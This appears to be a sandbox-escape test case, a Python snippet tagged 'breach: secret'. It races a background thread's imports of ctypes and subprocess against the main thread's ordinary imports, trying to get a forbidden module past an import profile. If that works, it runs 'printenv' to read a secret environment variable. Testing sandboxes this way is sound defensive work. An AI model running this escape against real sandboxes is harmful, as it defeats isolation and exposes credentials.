# A thread imports what the profile does not have, while the cell imports what it has.
# breach: secret
# threads: 1
import threading
seen = []
def load():
    for name in ('ctypes', 'subprocess', '_posixsubprocess', 'importlib.machinery'):
        for _ in range(50):
            try:
                module = __import__(name)
            except ImportError:
                continue
            if name in ('ctypes', 'subprocess'):
                seen.append(module.__dict__.get('check_output', list)(['printenv', SECRET_NAME]))
t = threading.Thread(target=load)
t.start()
import json, asyncio, decimal, statistics
t.join()
seen
